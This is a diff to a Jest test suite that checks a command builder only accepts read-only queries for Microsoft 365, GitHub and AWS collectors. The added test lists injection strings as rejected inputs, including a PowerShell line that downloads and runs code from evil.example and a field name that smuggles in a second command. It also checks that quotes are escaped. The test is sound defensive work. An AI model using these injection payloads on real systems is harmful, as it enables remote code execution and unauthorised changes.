@@ -74,7 +74,29 @@ describe('a command', () => {
   });
 
   test('is there for every kind of source', () => {
-    for (const { id } of collectors) expect(commandOf(id, asked({})), id).not.toBeNull();
+    for (const { id } of collectors) {
+      const operation = id === 'aws' ? 'iam:GetAccountSummary' : null;
+      expect(commandOf(id, asked({ operation })), id).not.toBeNull();
+    }
+  });
+
+  test('is not given where what was asked does not look like a question, whoever wrote that down', () => {
+    for (const [collector, operation, input] of [
+      ['microsoft365', 'Get-TransportConfig; iex (iwr https://evil.example) #', {}],
+      ['microsoft365', 'Set-TransportConfig', {}],
+      ['microsoft365', 'Get-Mailbox', { 'Identity; x': 'y' }],
+      ['microsoft365', 'AXFR', { name: 'example' }],
+      ['github', 'mutation { x }', {}],
+      ['github', 'subscription { x }', {}],
+      ['aws', 'iam:CreateUser; x', {}],
+      ['aws', 'nothing', {}],
+    ] as const)
+      expect(commandOf(collector, asked({ operation, input })), operation).toBeNull();
+    const quoted = commandOf(
+      'microsoft365',
+      asked({ operation: 'Get-Mailbox', input: { Identity: 'a’; b' } }),
+    );
+    expect(quoted?.command).toBe("Get-Mailbox -Identity 'a’’; b'");
   });
 });
 
